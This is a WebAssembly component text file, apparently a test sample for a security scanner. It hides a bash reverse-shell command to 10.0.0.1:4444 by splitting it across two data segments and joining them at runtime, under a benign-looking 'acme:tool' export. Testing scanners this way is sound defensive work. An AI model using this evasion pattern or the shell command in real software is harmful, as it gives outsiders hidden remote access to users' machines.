;; The line that gives a stranger a shell, in two pieces.
;; scanner: structure
;; unseen: the payload is put together when it runs
(component
  (core module $m
    (memory (export "memory") 1)
    (data (i32.const 64) "bash -i >& /dev/t")
    (data (i32.const 576) "cp/10.0.0.1/4444 0>&1")
    (func (export "run") (result i32)
      (memory.copy (i32.const 81) (i32.const 576) (i32.const 21))
      (i32.const 64)))
  (core instance $i (instantiate $m))
  (func $run (result u32) (canon lift (core func $i "run")))
  (instance $acts (export "run" (func $run)))
  (export "acme:tool/acts@1.0.0" (instance $acts)))
